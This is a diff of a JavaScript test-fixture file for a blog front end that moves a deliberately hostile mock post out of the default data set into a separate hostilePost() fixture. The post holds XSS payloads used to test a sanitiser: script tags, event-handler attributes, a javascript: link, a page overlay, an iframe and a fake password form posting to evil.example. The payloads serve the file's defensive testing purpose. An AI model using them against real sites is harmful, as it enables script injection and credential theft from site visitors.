@@ -95,8 +95,8 @@ export function generatePosts(count, { firstId = 3001, start = Date.UTC(2025, 3,
   });
 }
 
-/** The default data set: a Gov post with a featured image, a title with &#8217; and &amp; and no image, a
- * post with malicious HTML, 20 filler posts (more than the API's default page of 20) and the recorded post. */
+/** The default data set: a Gov post with a featured image, a title with &#8217; and &amp; and no image,
+ * 20 filler posts (more than the API's default page of 20) and the recorded post. */
 export function defaultPosts(origin) {
   return [
     makePost({
@@ -127,30 +127,39 @@ export function defaultPosts(origin) {
       excerpt: '<p>Vitro 3.2 manages Ceph pools from Git, so storage changes get the same review as everything else [&hellip;]</p>\n',
       content: '<p>Vitro 3.2 manages Ceph pools declaratively.</p>\n<h2>Why it matters</h2>\n<p>Storage changes now go through pull requests &amp; reviews.</p>\n',
     }),
-    makePost({
-      ID: 4103,
-      date: '2025-05-02T11:15:00-04:00',
-      title: 'Markup that must stay inert: &lt;script&gt;alert(1)&lt;/script&gt;',
-      categories: ['Security'],
-      author: 'Red Team <b>bot</b>',
-      excerpt:
-        '<p onmouseover="window.__xss=\'excerpt-hover\'">This excerpt carries handlers <img src="x" onerror="window.__xss=\'excerpt-img\'"> [&hellip;]</p>\n<script>window.__xss="excerpt-script"</script>',
-      content: [
-        '<p>Everything below is hostile and must render as harmless markup.</p>',
-        '<script>window.__xss = "content-script"; alert("xss")</script>',
-        '<img src="x" onerror="window.__xss=\'content-img\'; alert(1)" alt="broken on purpose">',
-        '<p><a href="javascript:window.__xss=\'content-link\'">A javascript: link</a></p>',
-        '<div style="position:fixed;inset:0;z-index:9999;background:#c00">full-page overlay</div>',
-        '<iframe src="https://evil.example/" title="evil"></iframe>',
-        '<svg onload="window.__xss=\'svg\'"><circle r="5"></circle></svg>',
-        '<form action="https://evil.example/steal"><input name="password" autofocus><button>Sign in</button></form>',
-        '<style>body { display: none !important; }</style>',
-        '<p id="main">A paragraph trying to take the skip link\'s target.</p>',
-      ].join('\n'),
-    }),
     ...generatePosts(20),
     recordedPost(origin),
   ];
+}
+
+/**
+ * A post of hostile markup, kept out of the default set: the browser reports the blocked inline handlers of
+ * such markup as CSP violations on the console while the sanitiser parses it, which would fail every walk over
+ * all pages. The sanitiser's unit tests run the same payloads (lib/blog/xss-payloads.ts); a spec that wants it
+ * served adds it through the control endpoint and expects those console reports.
+ */
+export function hostilePost() {
+  return makePost({
+    ID: 4103,
+    date: '2025-05-02T11:15:00-04:00',
+    title: 'Markup that must stay inert: &lt;script&gt;alert(1)&lt;/script&gt;',
+    categories: ['Security'],
+    author: 'Red Team <b>bot</b>',
+    excerpt:
+      '<p onmouseover="window.__xss=\'excerpt-hover\'">This excerpt carries handlers <img src="x" onerror="window.__xss=\'excerpt-img\'"> [&hellip;]</p>\n<script>window.__xss="excerpt-script"</script>',
+    content: [
+      '<p>Everything below is hostile and must render as harmless markup.</p>',
+      '<script>window.__xss = "content-script"; alert("xss")</script>',
+      '<img src="x" onerror="window.__xss=\'content-img\'; alert(1)" alt="broken on purpose">',
+      '<p><a href="javascript:window.__xss=\'content-link\'">A javascript: link</a></p>',
+      '<div style="position:fixed;inset:0;z-index:9999;background:#c00">full-page overlay</div>',
+      '<iframe src="https://evil.example/" title="evil"></iframe>',
+      '<svg onload="window.__xss=\'svg\'"><circle r="5"></circle></svg>',
+      '<form action="https://evil.example/steal"><input name="password" autofocus><button>Sign in</button></form>',
+      '<style>body { display: none !important; }</style>',
+      '<p id="main">A paragraph trying to take the skip link\'s target.</p>',
+    ].join('\n'),
+  });
 }
 
 /** A small SVG for any /images/{name}.svg the posts reference; `-WxH` in the name sets its size. */
